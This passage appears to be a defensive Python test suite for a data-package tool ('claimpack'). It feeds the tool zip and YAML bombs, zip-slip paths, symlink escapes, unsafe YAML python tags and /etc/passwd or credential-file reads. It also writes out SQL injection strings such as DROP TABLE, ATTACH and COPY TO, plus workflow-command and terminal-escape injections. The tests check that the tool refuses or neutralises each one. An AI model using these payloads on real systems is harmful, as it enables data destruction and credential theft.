    .git/config) is not a seed: only FOLDER/ARTICLE_ID.txt in a real seed folder is."""
    with (world.repo / ".git" / "config").open("a") as handle:
        handle.write(f"[http]\n\textraheader = AUTHORIZATION: basic {TOKEN_MARK}\n")
    return _seed_outside(world, ".git/config", "articles")


@case("seeds", 1)
def seed_source_path_env_beside_package(world: World) -> Run:
    (world.repo / ".env").write_text(f"API_TOKEN={TOKEN_MARK}\n")
    return _seed_outside(world, ".env", "sources")


@case("seeds", 1)
def seed_source_path_hidden_folder_txt(world: World) -> Run:
    (world.repo / ".secrets").mkdir()
    (world.repo / ".secrets" / "a1.txt").write_text(f"API_TOKEN={TOKEN_MARK}\n")
    return _seed_outside(world, ".secrets/a1.txt", "articles")


@case("seeds", 1)
def seed_wrong_sha256_is_never_quoted(world: World) -> Run:
    """A path of the right shape that names another text: seed-file reports the sha256, and no
    finding quotes a character of it."""
    (world.repo / "notes").mkdir()
    (world.repo / "notes" / "a1.txt").write_text(f"API_TOKEN={TOKEN_MARK}\n" * 200)
    change_cell(world, "articles", "source_path", "notes/a1.txt")
    expect_finding(world, "seed-file", "sha256")
    return Cli(["validate", "datapackage", "--format", "json"])


@case("seeds", 1)
def seed_symlinked_seed_folder_in_repo(world: World) -> Run:
    shutil.copytree(world.repo / "seeds", world.canary / "tree" / "seeds")
    shutil.rmtree(world.repo / "seeds")
    (world.repo / "seeds").symlink_to(world.canary / "tree" / "seeds")
    expect_finding(world, "seed-file", "outside")
    return Cli(["validate", "datapackage", "--format", "json"])


# =============================================================================================
# zips


@case("zips", 2, max_seconds=10, max_rss_mb=PEAK_RSS_MB)
def zip_bomb_member(world: World) -> Run:
    zip_package(world, "bomb.zip", [(regular("data/huge.bin"), bytes(80 * 1024**2))])
    return Process(claimpack_argv("validate", "bomb.zip"), timeout=60)


@case("zips", 2, max_seconds=10, max_rss_mb=PEAK_RSS_MB)
def zip_bomb_total(world: World) -> Run:
    noise = random.Random(1).randbytes(1_200_000)  # does not compress: over the total, not a ratio bomb
    zip_package(world, "big.zip", [(regular("data/noise.txt"), noise)])
    return Process(claimpack_argv("validate", "big.zip"), env={"CLAIMPACK_MAX_UNZIPPED": "1000000"})


@case(
    "zips",
    2,
    max_seconds=10,
)
def zip_bomb_many_small_members(world: World) -> Run:
    zip_package(world, "many.zip", zero_members(200, 1024**2))
    return Cli(["validate", "many.zip"])


@case("zips", 2, max_seconds=15, max_rss_mb=PEAK_RSS_MB)
def zip_bomb_load(world: World) -> Run:
    path = zip_package(world, "bomb.zip", [(regular("data/dates.csv"), bytes(80 * 1024**2))])
    script = (
        "import resource, sys, time\n"
        "import claimpack\n"
        "base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "started = time.perf_counter()\n"
        "try:\n"
        f"    claimpack.load({str(path)!r})\n"
        "    code = 0\n"
        "except claimpack.ClaimpackError as error:\n"
        "    print('claimpack: error:', error, file=sys.stderr)\n"
        "    code = 2\n"
        "grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base) / 1024\n"
        "print(f'grown_mb={grown:.0f} seconds={time.perf_counter() - started:.2f}')\n"
        "assert grown < 300, grown\n"
        "sys.exit(code)\n"
    )
    return Process([sys.executable, "-c", script])


def _zip_slip(member: str) -> Setup:
    def setup(world: World) -> Run:
        zip_package(world, "slip.zip", [(regular(member), b"escaped\n")])
        return Cli(["validate", "slip.zip"])

    return setup


register("zip-slip-dotdot", "zips", _zip_slip("../../escaped.txt"), 2)
register("zip-slip-backslash", "zips", _zip_slip("..\\..\\escaped.txt"), 2)
register("zip-slip-absolute", "zips", _zip_slip("/tmp/claimpack-hostile-escaped.txt"), 2)


@case("zips", 2)
def zip_symlink_member(world: World) -> Run:
    link = zipfile.ZipInfo("data/link.csv")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    zip_package(world, "link.zip", [(link, str(world.canary / "data.csv").encode())])
    return Cli(["validate", "link.zip"])


@case("zips", 2)
def zip_no_descriptor(world: World) -> Run:
    with zipfile.ZipFile(world.repo / "empty.zip", "w") as archive:
        archive.writestr(regular("README.md"), b"nothing here\n")
    return Cli(["validate", "empty.zip"])


@case("zips", 2)
def zip_corrupt_member(world: World) -> Run:
    path = world.repo / "corrupt.zip"
    data = (world.package / "data" / "claims.csv").read_bytes()
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(regular("datapackage.json"), (world.package / "datapackage.json").read_bytes())
        archive.writestr(regular("data/claims.csv", zipfile.ZIP_STORED), data)
    raw = bytearray(path.read_bytes())
    at = raw.index(data[:40]) + 20
    raw[at] ^= 0xFF
    path.write_bytes(bytes(raw))
    return Cli(["validate", "corrupt.zip"])


@case("zips", 2)
def zip_publish_duplicate_key(world: World) -> Run:
    rows = world.rows("claims")
    rows.append(dict(rows[0]))
    world.write_rows("claims", rows)
    zip_package(world, "dup.zip")
    expect_in_stderr(world, "[primary-key]")
    return Cli(["publish", "dup.zip", "--to", "dist/out.sqlite"])


@case("zips", 2)
def zip_publish_path_dotdot(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "dates").update(path="../../canary/data.csv"))
    zip_package(world, "dotdot.zip")
    return Cli(["publish", "dotdot.zip", "--to", "dist/out.sqlite", "--no-check"])


@case(
    "zips",
    0,
)
def zip_published_by_claimpack_validates(world: World) -> Run:
    world.previous("previous.zip")
    return Cli(["validate", "dist/previous.zip"])


@case("zips", 1)  # validated, not refused: it only reports the seed texts the zip does not carry
def zip_written_by_python_zipfile_validates(world: World) -> Run:
    with zipfile.ZipFile(world.repo / "plain.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(world.package.rglob("*")):
            if path.is_file():
                archive.writestr(path.relative_to(world.package).as_posix(), path.read_bytes())
    return Cli(["validate", "plain.zip"])


@case(
    "zips",
    2,
)
def zip_gzip_resource_bomb(world: World) -> Run:
    folder = world.repo / "gzpkg"
    (folder / "data").mkdir(parents=True)
    with gzip.open(folder / "data" / "t.csv.gz", "wb", compresslevel=9) as handle:
        handle.write(b"id\n")
        chunk = b"1\n" * (1 << 20)
        for _ in range(100):
            handle.write(chunk)
    schema = {"fields": [{"name": "id", "type": "integer"}]}
    resource = {"name": "t", "path": "data/t.csv.gz", "format": "csv", "compression": "gz", "schema": schema}
    (folder / "datapackage.json").write_text(json.dumps({"name": "gz", "resources": [resource]}))
    # Refused in about 3 s on an idle machine; inflating the 200 MB would take minutes. The limit
    # leaves room for a loaded CI machine without letting the bomb through.
    return Process(claimpack_argv("validate", "gzpkg"), timeout=20)


# =============================================================================================
# YAML: bombs, tags, files that are not YAML at all


def _suite(world: World, body: str, name: str = "suite.yaml") -> Path:
    path = world.repo / "validate" / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(body, "utf-8")
    return path


@case("yaml", 2, max_seconds=10, max_rss_mb=PEAK_RSS_MB)
def yaml_bomb_suite(world: World) -> Run:
    _suite(world, yaml_bomb("tolerance"))
    return Process(claimpack_argv("validate", "datapackage"), timeout=30)


@case("yaml", 2, max_seconds=10, max_rss_mb=PEAK_RSS_MB)
def yaml_bomb_reviewed(world: World) -> Run:
    _suite(world, "fail_on: error\nreviewed: reviewed.yaml\n")
    _suite(world, yaml_bomb(), "reviewed.yaml")
    return Process(claimpack_argv("validate", "datapackage"), timeout=30)


@case("yaml", 2, max_seconds=10, max_rss_mb=PEAK_RSS_MB)
def yaml_bomb_gold(world: World) -> Run:
    (world.repo / "gold").mkdir()
    (world.repo / "gold" / "x.gold.yaml").write_text(yaml_bomb("claims"))
    (world.repo / "gold" / "x.txt").write_text("Tekst.\n")
    return Process(claimpack_argv("evaluate", "gold"), timeout=30)


@case("yaml", 2, max_seconds=10, max_rss_mb=PEAK_RSS_MB)
def yaml_bomb_descriptor(world: World) -> Run:
    return Process(claimpack_argv("validate", yaml_package(world, body=yaml_bomb("resources"))), timeout=30)


@case("yaml", 2)
def yaml_merge_key_alias(world: World) -> Run:
    _suite(world, "base: &b {severity: warning}\nrules:\n  unused-source:\n    <<: *b\n")
    return Cli(["validate", "datapackage"])


@case("yaml", 2)
def yaml_python_tag_suite(world: World) -> Run:
    _suite(world, f"fail_on: {python_tag(world)}\n")
    return Cli(["validate", "datapackage"])


@case("yaml", 2)
def yaml_python_tag_reviewed(world: World) -> Run:
    _suite(world, "reviewed: reviewed.yaml\n")
    _suite(world, f"reviewed:\n  - {python_tag(world)}\n", "reviewed.yaml")
    return Cli(["validate", "datapackage"])


@case("yaml", 2)
def yaml_python_name_tag_suite(world: World) -> Run:
    _suite(world, "fail_on: !!python/name:os.system\n")
    return Cli(["validate", "datapackage"])


@case("yaml", 2)
def yaml_python_tag_descriptor(world: World) -> Run:
    return Cli(["validate", yaml_package(world, body=f"name: {python_tag(world)}\nresources: []\n")])


@case("yaml", 2)
def yaml_python_tag_gold(world: World) -> Run:
    (world.repo / "gold").mkdir()
    (world.repo / "gold" / "x.gold.yaml").write_text(f"article: {python_tag(world)}\n")
    (world.repo / "gold" / "x.txt").write_text("Tekst.\n")
    return Cli(["evaluate", "gold"])


@case("yaml", 2)
def yaml_nested_deep_suite(world: World) -> Run:
    _suite(world, "rules: " + "[" * 100_000 + "\n")
    return Cli(["validate", "datapackage"])


@case("yaml", 2)
def yaml_broken_suite(world: World) -> Run:
    _suite(world, "fail_on: error\nrules:\n  unused-source: {severity: info\n   bad: [\n")
    return Cli(["validate", "datapackage"])


@case("yaml", 2)
def yaml_descriptor_binary_value(world: World) -> Run:
    return Cli(["validate", yaml_package(world, body="name: !!binary aGVsbG8=\nresources: []\n")])


def _reviewed_file(target: Callable[[World], str], name: str) -> Setup:
    def setup(world: World) -> Run:
        path = target(world)
        _suite(world, f"reviewed: {path}\n")
        expect_in_stderr(world, name)
        return Cli(["validate", "datapackage"])

    return setup


register("reviewed-etc-passwd", "yaml", _reviewed_file(lambda w: "/etc/passwd", "/etc/passwd"), 2, reads_outside=True)
register(
    "reviewed-passwd-like",
    "yaml",
    _reviewed_file(lambda w: str(w.canary / "passwd"), "passwd"),
    2,
    reads_outside=True,
)
register(
    "reviewed-dotenv",
    "yaml",
    _reviewed_file(lambda w: str(w.canary / "secret.env"), "secret.env"),
    2,
    reads_outside=True,
)
register(
    "reviewed-dotenv-yaml-shaped",
    "yaml",
    _reviewed_file(lambda w: str(w.canary / "secret.yaml.env"), "secret.yaml.env"),
    2,
    reads_outside=True,
)


@case("yaml", 2)
def reviewed_secret_in_values(world: World) -> Run:
    _suite(world, "reviewed: reviewed.yaml\n")
    entry = f"  - fingerprint: {TOKEN_MARK}\n    rule: {TOKEN_MARK.lower()}\n    decision: {TOKEN_MARK}\n"
    _suite(world, f"reviewed:\n{entry}    note: x\n    date: 2024-01-01\n", "reviewed.yaml")
    return Cli(["validate", "datapackage"])


@case("yaml", 2)
def reviewed_unknown_rule_secret(world: World) -> Run:
    """A reviewed file that passes its schema but names a rule nobody has: the rule id is the file's text."""
    _suite(world, "reviewed: reviewed.yaml\n")
    rule = "canary-token-9f8e7d"
    entry = (
        f"  - fingerprint: '{'0' * 20}'\n    rule: {rule}\n    decision: confirmed\n    note: x\n    date: 2024-01-01\n"
    )
    _suite(world, f"reviewed:\n{entry}", "reviewed.yaml")
    return Cli(["validate", "datapackage"])


@case("yaml", 2, reads_outside=True)
def suite_is_etc_passwd(world: World) -> Run:
    expect_in_stderr(world, "/etc/passwd")
    return Cli(["validate", "datapackage", "--suite", "/etc/passwd"])


@case("yaml", 2)
def suite_is_a_folder(world: World) -> Run:
    (world.repo / "validate" / "suite.yaml").mkdir(parents=True)
    return Cli(["validate", "datapackage", "--suite", "validate/suite.yaml"])


# =============================================================================================
# validate: package text in reports (workflow commands, terminal escapes)


@case("reports", 1)
def report_github_workflow_command_injection(world: World) -> Run:
    """A cell that tries to start its own line: every stdout line must stay one annotation."""
    change_cell(world, "claims", "qualifier", "exact\n::add-mask::pwned\r\n::error::forged")

    def one_annotation_per_line(outcome: Outcome) -> None:
        for line in outcome.stdout.split("\n")[:-1]:  # the runner reads commands at line starts only
            assert line.startswith(("::error ", "::warning ", "::notice ")) and "\r" not in line, line

    world.checks.append(one_annotation_per_line)
    return Cli(["validate", "datapackage", "--format", "github"])


@case(
    "reports",
    1,
)
def report_text_terminal_escape(world: World) -> Run:
    change_cell(world, "claims", "qualifier", "exact\x1b]0;pwned\x07\x1b[2K")

    def no_control_characters(outcome: Outcome) -> None:
        controls = sorted({c for c in outcome.stdout if ord(c) < 32 and c not in "\n\t"})
        assert not controls, f"stdout holds control characters {controls!r}"

    world.checks.append(no_control_characters)
    return Cli(["validate", "datapackage"])


# =============================================================================================
# validate: where the report goes


@case("output", 2)
def output_is_a_folder(world: World) -> Run:
    (world.repo / "reports").mkdir()
    return Cli(["validate", "datapackage", "-o", "reports"])


@case("output", 0)
def output_missing_parents(world: World) -> Run:
    world.output("reports")
    expect_file(world, world.repo / "reports" / "a" / "b" / "report.json")
    return Cli(["validate", "datapackage", "--format", "json", "-o", "reports/a/b/report.json"])


@case("output", 2)
def output_parent_is_a_file(world: World) -> Run:
    (world.repo / "afile").write_text("x\n")
    return Cli(["validate", "datapackage", "-o", "afile/report.json"])


@case("output", 2)
def output_is_a_fifo(world: World) -> Run:
    os.mkfifo(world.repo / "pipe")
    return Process(claimpack_argv("validate", "datapackage", "-o", "pipe"), timeout=20)


@case("output", 0)
def output_is_a_symlink_to_outside(world: World) -> Run:
    """Replacing the link is fine; writing through it into canary/passwd is not."""
    (world.repo / "report.json").symlink_to(world.canary / "passwd")
    world.output("report.json")
    return Cli(["validate", "datapackage", "-o", "report.json"])


# =============================================================================================
# validate --engine duckdb: same outcome as frictionless, no SQL from the package


@case("duckdb-engine", 1)
def duckdb_inline_data_checked(world: World) -> Run:
    def change(d: dict[str, Any]) -> None:
        d["resources"].append(
            {
                "name": "inline",
                "data": [["id"], ["notanumber"]],
                "schema": {"fields": [{"name": "id", "type": "integer"}]},
            }
        )

    world.edit(change)
    same_errors_as_frictionless(world, world.package)

    def inline_reported(outcome: Outcome) -> None:
        assert ("table-schema", "type-error", "inline") in errors_by_engine(world.package)["duckdb"]

    world.checks.append(inline_reported)
    return Cli(["validate", "datapackage", "--engine", "duckdb"])


@case("duckdb-engine", 1)
def duckdb_enum_payload(world: World) -> Run:
    payload = copy_payload(world)
    field = {"name": "v", "type": "string", "constraints": {"enum": [payload, "it's"]}}
    world.add_table("extra", [{"name": "id", "type": "integer"}, field], [["1", "it's"], ["2", "nope"]])
    same_errors_as_frictionless(world, world.package)
    return Cli(["validate", "datapackage", "--engine", "duckdb"])


@case("duckdb-engine", 1)
def duckdb_pattern_payload(world: World) -> Run:
    pattern = f"a'\\); COPY \\(SELECT 42\\) TO '{world.root / 'copied.csv'}'; --"  # a valid regex "b" breaks
    field = {"name": "v", "type": "string", "constraints": {"pattern": pattern}}
    world.add_table("extra", [{"name": "id", "type": "integer"}, field], [["1", "b"]])
    same_errors_as_frictionless(world, world.package)
    return Cli(["validate", "datapackage", "--engine", "duckdb"])


@case("duckdb-engine", 1)
def duckdb_field_name_payload(world: World) -> Run:
    name = f"v\" VARCHAR); COPY (SELECT 42) TO '{world.root / 'copied.csv'}'; --"
    fields = [{"name": "id", "type": "integer"}, {"name": name, "type": "integer"}]
    world.add_table("extra", fields, [["1", "x"]])
    same_errors_as_frictionless(world, world.package)
    return Cli(["validate", "datapackage", "--engine", "duckdb"])


@case("duckdb-engine", 1)
def duckdb_minimum_payload(world: World) -> Run:
    fields = [
        {"name": "id", "type": "integer", "constraints": {"minimum": "0) OR 1=1; --", "maxLength": "1); DROP --"}}
    ]
    world.add_table("extra", fields, [["-1"]])
    return Cli(["validate", "datapackage", "--engine", "duckdb"])


# =============================================================================================
# the release guard: a corrupt memory is an error, never silence or a crash


def _record(body: str) -> Setup:
    def setup(world: World) -> Run:
        folder = world.repo / "validate" / "releases"
        folder.mkdir(parents=True)
        (folder / "1.0.0.json").write_text(body)
        expect_finding(world, "unreleased-change", "record")
        return Cli(["validate", "datapackage", "--format", "json"])

    return setup


register("guard-record-broken-json", "guard", _record("{broken"), 1)
register("guard-record-is-a-list", "guard", _record("[1, 2]"), 1)
register("guard-record-without-resources", "guard", _record('{"version": "1.0.0"}'), 1)
register("guard-record-bad-version", "guard", _record('{"version": "01.0.0", "resources": {}}'), 1)
register(
    "guard-record-schema-not-an-object",
    "guard",
    _record('{"version": "1.0.0", "resources": {"claims": {"schema": "x", "fingerprints": {}}}}'),
    1,
)
register(
    "guard-record-primary-key-not-a-list",
    "guard",
    _record('{"version": "1.0.0", "resources": {"claims": {"schema": {"primaryKey": 5}, "fingerprints": {}}}}'),
    1,
)


def _released_then(version: str) -> Setup:
    def setup(world: World) -> Run:
        from claimpack.releasing import release

        release(world.package)
        change_cell(world, "claims", "value", "3100")
        world.edit(lambda d: d.update(version=version))
        expect_finding(world, "unreleased-change")
        return Cli(["validate", "datapackage", "--format", "json"])

    return setup


register("guard-prerelease-version", "guard", _released_then("1.0.0-rc.1"), 1)
register("guard-leading-zero-version", "guard", _released_then("01.0.0"), 1)
register("guard-unchanged-version", "guard", _released_then("1.0.0"), 1)


# =============================================================================================
# publish: field names, enum values, titles and names are data, never SQL


def _extra_payload_table(world: World, name: str | None = None, enum: list[str] | None = None) -> None:
    value = enum[0] if enum else "plain"
    field: dict[str, Any] = {"name": name or "v", "type": "string"}
    if enum:
        field["constraints"] = {"enum": enum}
    world.add_table("extra", [{"name": "id", "type": "integer"}, field], [["1", value]], primaryKey=["id"])


def _column_names(kind: str, path: Path) -> list[str]:
    if kind == "sqlite":
        with sqlite3.connect(path) as connection:
            names = [row[1] for row in connection.execute("PRAGMA table_info(extra)")]
        connection.close()
        return names
    with duckdb.connect(str(path), read_only=True) as duck:
        return [row[0] for row in duck.execute("DESCRIBE extra").fetchall()]


def _values(kind: str, path: Path) -> list[Any]:
    if kind == "sqlite":
        with sqlite3.connect(path) as connection:
            rows = connection.execute("SELECT * FROM extra").fetchall()
        connection.close()
        return rows
    with duckdb.connect(str(path), read_only=True) as duck:
        return duck.execute("SELECT * FROM extra").fetchall()


def _sql_case(kind: str, payload: str) -> Setup:
    def setup(world: World) -> Run:
        target = world.repo / "dist" / f"out.{kind}"
        world.output("dist")
        victim = world.canary / f"victim.{kind}"
        copied = world.root / "copied.csv"
        names = {
            "field-name": FIELD_PAYLOAD,
            "field-name-attach": f"x\" TEXT); ATTACH '{victim}' AS v; DROP TABLE v.victim; --",
            "field-name-copy": f"x\" VARCHAR); COPY (SELECT 42) TO '{copied}'; --",
            "field-name-star": "*",
            "field-name-columns-star": "COLUMNS(*)",
        }
        enums = {
            "enum-copy": [copy_payload(world)],
            "enum-dollar-copy": [f"x'))); COPY (SELECT 42) TO $${copied}$$; --"],
            "enum-attach": [attach_payload(world, kind)],
            "enum-apostrophe": ["it's", "o'neil"],
            "enum-backslash": ["a\\", "b\\'"],
        }
        name, values = names.get(payload, "v"), enums.get(payload)
        _extra_payload_table(world, name=name, enum=values)

        def stored_as_data(outcome: Outcome) -> None:
            if outcome.exit_code == 0:
                assert name in _column_names(kind, target), _column_names(kind, target)
                if values:
                    assert _values(kind, target)[0][1] == values[0]

        world.checks.append(stored_as_data)
        return Cli(["publish", "datapackage", "--to", str(target.relative_to(world.repo))])

    return setup


for _kind in ("sqlite", "duckdb"):
    for _payload in (
        "field-name",
        "field-name-attach",
        "field-name-copy",
        "enum-copy",
        "enum-dollar-copy",
        "enum-attach",
        "enum-apostrophe",
        "enum-backslash",
    ):
        register(f"sql-{_kind}-{_payload}", "sql", _sql_case(_kind, _payload), (0, 2))
    for _payload in ("field-name-star", "field-name-columns-star"):  # legal names: published as they are
        register(f"sql-{_kind}-{_payload}", "sql", _sql_case(_kind, _payload), 0)


@case("sql", 0)
def sql_titles_and_descriptions(world: World) -> Run:
    payload = "'); DROP TABLE victim; --"

    def change(d: dict[str, Any]) -> None:
        d["title"] = d["description"] = payload
        for entry in d["resources"]:
            entry["title"] = payload
            for item in entry["schema"]["fields"]:
                item["description"] = payload

    world.edit(change)
    world.output("dist")
    return Cli(["publish", "datapackage", "--to", "dist/out.duckdb"])


@case("sql", 2)
def sql_resource_name_payload(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "dates").update(name="victim; DROP TABLE victim"))
    return Cli(["publish", "datapackage", "--to", "dist/out.sqlite", "--no-check"])


@case("sql", 2)
def sql_resource_name_is_the_metadata_table(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "dates").update(name="claimpack_package"))
    return Cli(["publish", "datapackage", "--to", "dist/out.sqlite", "--no-check"])


@case("sql", 2)
def sql_resource_names_differ_only_in_case(world: World) -> Run:
    world.edit(lambda d: world.resource(d, "dates").update(name="Claims"))
    return Cli(["publish", "datapackage", "--to", "dist/out.sqlite", "--no-check"])


def _pg_case(payload: str) -> Setup:
    def setup(world: World) -> Run:
        database = "hostile_" + hashlib.sha1(f"{world.root}{payload}".encode()).hexdigest()[:12]
        url = world.pg.fresh_database(database)
        if payload == "field-name":
            _extra_payload_table(world, name=FIELD_PAYLOAD)
        elif payload == "enum":
            _extra_payload_table(world, enum=["x'))); DROP TABLE victim; --", "it's"])
        elif payload == "enum-percent":
            _extra_payload_table(world, enum=["50%", "100%%"])
        elif payload == "titles":

            def change(d: dict[str, Any]) -> None:
                d["title"] = "'); DROP TABLE victim; --"
                for entry in d["resources"]:
                    entry["title"] = "$$; DROP TABLE victim; --"
                    for item in entry["schema"]["fields"]:
                        item["description"] = "'); DROP TABLE victim; --"

            world.edit(change)

        def victim_alive(outcome: Outcome) -> None:
            assert world.pg.victim_alive(database), "the PostgreSQL canary table `victim` is gone"

        world.checks.append(victim_alive)
        return Cli(["publish", "datapackage", "--to", url])

    return setup


@case("sql", 2, needs_pg=True)
def sql_postgres_dependent_view(world: World) -> Run:
    """A view someone made on a published table: republishing fails as a whole (one line), and the
    view and the tables it reads stay as they were."""
    import sqlalchemy as sa

    from claimpack.publishing import publish

    database = "hostile_view_" + hashlib.sha1(str(world.root).encode()).hexdigest()[:12]
    url = world.pg.fresh_database(database)
    publish(world.package, url)
    engine = world.pg.engine(database)
    with engine.begin() as connection:
        connection.execute(sa.text("CREATE VIEW people AS SELECT claim_id, value FROM claims"))
    engine.dispose()
    change_cell(world, "claims", "value", "3100")

    def view_and_tables_kept(outcome: Outcome) -> None:
        engine = world.pg.engine(database)
        with engine.connect() as connection:
            values = connection.execute(sa.text("SELECT value FROM people ORDER BY claim_id")).scalars().all()
        engine.dispose()
        assert 3100 not in values and len(values) == len(world.rows("claims")), values

    world.checks.append(view_and_tables_kept)
    return Cli(["publish", "datapackage", "--to", url])


def _victim_resource(world: World) -> None:
    """The package plus a resource named like the user's own table `victim`."""
    world.add_table("victim", [{"name": "x", "type": "string"}], [["replaced"]])


@case("sql", 2, needs_pg=True)
def sql_postgres_user_table_named_like_a_resource(world: World) -> Run:
    """claimpack published this database once; the user then made a table `victim`. A package with
    a resource `victim` must not drop it: only tables an earlier publish recorded are replaced."""
    from claimpack.publishing import publish

    database = "hostile_own_" + hashlib.sha1(str(world.root).encode()).hexdigest()[:12]
    url = world.pg.fresh_database(database)
    publish(world.package, url)
    _victim_resource(world)

    def victim_alive(outcome: Outcome) -> None:
        assert world.pg.victim_alive(database), "the user's table `victim` was replaced"

    world.checks.append(victim_alive)
    return Cli(["publish", "datapackage", "--to", url])


register("sql-postgres-field-name", "sql", _pg_case("field-name"), (0, 2), needs_pg=True)
register("sql-postgres-enum", "sql", _pg_case("enum"), (0, 2), needs_pg=True)
register("sql-postgres-titles", "sql", _pg_case("titles"), 0, needs_pg=True)
register("sql-postgres-enum-percent", "sql", _pg_case("enum-percent"), 0, needs_pg=True)


# =============================================================================================
# publish: where it writes, and what it may replace


def _name_case(kind: str, name: str) -> Setup:
    target = {
        "zip": "dist/out.zip",
        "sqlite": "dist/out.sqlite",
        "duckdb": "dist/out.duckdb",
        "excel": "dist/out.xlsx",
        "parquet": "dist/pq",
    }[kind]

    def setup(world: World) -> Run:
        world.edit(lambda d: world.resource(d, "dates").update(name=name))
        return Cli(["publish", "datapackage", "--to", target, "--no-check"])

    return setup


for _kind in ("parquet", "zip", "sqlite", "duckdb", "excel"):
    register(
        f"target-name-escapes-{_kind}",
        "targets",
        _name_case(_kind, "../../../escaped"),
        2,
    )
for _kind in ("excel", "sqlite", "parquet"):
    register(f"target-name-with-slash-{_kind}", "targets", _name_case(_kind, "a/b"), 2)


def _occupied(target: str, make: Callable[[World, Path], None], force: bool = False, process: bool = False) -> Setup:
    def setup(world: World) -> Run:
        path = world.repo / target
        path.parent.mkdir(parents=True, exist_ok=True)
        make(world, path)
        args = ["publish", "datapackage", "--to", target, *(["--force"] if force else [])]
        return Process(claimpack_argv(*args), timeout=30) if process else Cli(args)

    return setup


def _copy_canary(name: str) -> Callable[[World, Path], None]:
    return lambda world, path: shutil.copy2(world.canary / name, path)


def _foreign_zip(world: World, path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(regular("notes.txt"), b"someone else's zip\n")


def _foreign_parquet(world: World, path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    path.mkdir()
    pq.write_table(pa.table({"x": [1, 2]}), path / "claims.parquet")


def _device(world: World, path: Path) -> None:
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # what /dev/null is
    except OSError:
        os.mkfifo(path)


register("target-unrelated-sqlite", "targets", _occupied("dist/existing.sqlite", _copy_canary("victim.sqlite")), 2)
register("target-unrelated-duckdb", "targets", _occupied("dist/existing.duckdb", _copy_canary("victim.duckdb")), 2)
register("target-random-file-xlsx", "targets", _occupied("dist/x.xlsx", lambda w, p: p.write_bytes(os.urandom(999))), 2)
register("target-foreign-zip", "targets", _occupied("dist/x.zip", _foreign_zip), 2)
register("target-foreign-parquet", "targets", _occupied("dist/pq", _foreign_parquet), 2)


def _foreign_xlsx(world: World, path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.properties.creator = "someone else"
    book.save(path)


register("target-foreign-xlsx", "targets", _occupied("dist/x.xlsx", _foreign_xlsx), 2)
register("target-folder-for-sqlite", "targets", _occupied("dist/x.sqlite", lambda w, p: p.mkdir(), force=True), 2)
register("target-fifo", "targets", _occupied("dist/x.zip", lambda w, p: os.mkfifo(p), True, True), 2)
register("target-device", "targets", _occupied("dist/null.xlsx", _device, True, True), 2)
register(
    "target-symlink",
    "targets",
    _occupied("dist/x.sqlite", lambda w, p: p.symlink_to(w.canary / "victim.sqlite"), force=True),
    2,
)
register("target-parquet-is-a-file", "targets", _occupied("dist/pqfile", lambda w, p: p.write_text("x")), 2)


@case("targets", 0)
def target_zip_leaves_out_symlinks(world: World) -> Run:
    """A symlink in the package folder pointing outside is not followed into the published zip."""
    (world.package / "NOTES.md").symlink_to(world.canary / "secret.env")
    (world.package / "more").symlink_to(world.canary)
    world.output("dist")

    def no_secret_in_members(outcome: Outcome) -> None:
        with zipfile.ZipFile(world.repo / "dist" / "out.zip") as archive:
            for name in archive.namelist():
                data = archive.read(name)
                assert TOKEN_MARK.encode() not in data and PASSWD_MARK.encode() not in data, name

    world.checks.append(no_secret_in_members)
    return Cli(["publish", "datapackage", "--to", "dist/out.zip"])


@case(
    "targets",
    (0, 2),
)
def target_zip_bundles_files_beside_the_package(world: World) -> Run:
    (world.repo / ".aws").mkdir()
    (world.repo / ".aws" / "credentials").write_text(f"aws_secret_access_key={TOKEN_MARK}\n")
    folder = world.repo / "downloaded"
    (folder / "data").mkdir(parents=True)
    (folder / "data" / "t.csv").write_text("id\n1\n")
    resource = {"name": "t", "path": "data/t.csv", "schema": {"fields": [{"name": "id", "type": "integer"}]}}
    sources = [{"title": "notes", "path": ".aws/credentials"}]
    (folder / "datapackage.json").write_text(json.dumps({"name": "d", "sources": sources, "resources": [resource]}))
    world.output("dist")

    def nothing_from_beside_the_package(outcome: Outcome) -> None:
        if outcome.exit_code == 0:
            with zipfile.ZipFile(world.repo / "dist" / "out.zip") as archive:
                for name in archive.namelist():
                    assert TOKEN_MARK.encode() not in archive.read(name), f"the zip ships {name}"

    world.checks.append(nothing_from_beside_the_package)
    return Cli(["publish", "downloaded", "--to", "dist/out.zip"])


@case("targets", 0)
def target_unrelated_sqlite_force(world: World) -> Run:
    shutil.copy2(world.canary / "victim.sqlite", world.repo / "existing.sqlite")
    world.output("existing.sqlite")
    world.output("existing.metadata.json")  # the datasette metadata a SQLite target carries beside it
    return Cli(["publish", "datapackage", "--to", "existing.sqlite", "--force"])


def _parent_file(world: World) -> Run:
    (world.repo / "dist").mkdir()
    (world.repo / "dist" / "afile").write_text("x")
    return Cli(["publish", "datapackage", "--to", "dist/afile/x.sqlite"])


register("target-parent-file-sqlite", "targets", _parent_file, 2)


@case("targets", 2)
def target_unknown_hash_algorithm(world: World) -> Run:
    data = world.descriptor()
    world.resource(data, "claims")["hash"] = "whirlpool:abc"
    world.write_descriptor(data, rehash=False)
    return Cli(["publish", "datapackage", "--to", "dist/out.sqlite"])


@case("targets", 2)
def target_tampered_csv(world: World) -> Run:
    change_cell(world, "claims", "value", "9999", rehash=False)
    return Cli(["publish", "datapackage", "--to", "dist/out.sqlite"])


@case("targets", 0)
def target_tampered_csv_no_check(world: World) -> Run:
    change_cell(world, "claims", "value", "9999", rehash=False)
    world.output("dist")
    return Cli(["publish", "datapackage", "--to", "dist/out.sqlite", "--no-check"])


@case("targets", 2)
def target_pg_port_not_a_number(world: World) -> Run:
    return Cli(["publish", "datapackage", "--to", f"postgresql://u:{TOKEN_MARK}@127.0.0.1:notaport/db"])


@case("targets", 2, max_seconds=15)
def target_pg_down(world: World) -> Run:
    """Nothing listens on the port; the password (a canary secret) must not be printed."""
    import socket

